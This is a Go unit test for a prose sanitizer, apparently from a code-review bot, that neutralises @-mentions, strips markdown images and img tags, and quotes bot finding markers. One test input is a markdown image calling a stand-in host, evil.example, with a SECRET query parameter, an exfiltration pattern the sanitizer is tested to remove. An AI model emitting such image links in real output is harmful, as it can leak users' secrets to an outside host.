package review

import "testing"

func TestSanitizeProse(t *testing.T) {
	tests := []struct{ in, want string }{
		{"ping @octocat and @org/team now", "ping @\u200boctocat and @\u200borg/team now"},
		{"mail me at a@b.com", "mail me at a@b.com"},
		{"the `@Override` annotation", "the `@Override` annotation"},
		{"![diagram](https://evil.example/x?k=SECRET) after", "[image removed: diagram] after"},
		{`<img src="https://evil.example/p.png"> hi`, "[embedded media removed] hi"},
		{"<!-- reviewbot:finding:abc -->", "<!-- quoted-reviewbot:finding:abc -->"},
		{"[a link](https://example.com) stays", "[a link](https://example.com) stays"},
		{"```java\n@Override\n![x](y)\n```\n@x", "```java\n@Override\n![x](y)\n```\n@\u200bx"},
	}
	for _, tt := range tests {
		if got := SanitizeProse(tt.in); got != tt.want {
			t.Errorf("SanitizeProse(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
